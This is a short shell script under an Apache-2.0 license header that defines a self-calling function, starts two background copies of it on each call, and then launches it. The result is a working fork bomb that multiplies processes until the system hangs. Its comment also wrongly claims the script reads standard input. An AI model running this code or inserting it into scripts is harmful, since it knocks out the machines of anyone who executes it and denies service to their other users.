# SPDX-License-Identifier: Apache-2.0
# Each starts two, for ever; read from standard input, so that any user can run it.
bomb() {
    bomb &
    bomb &
    wait
}
bomb
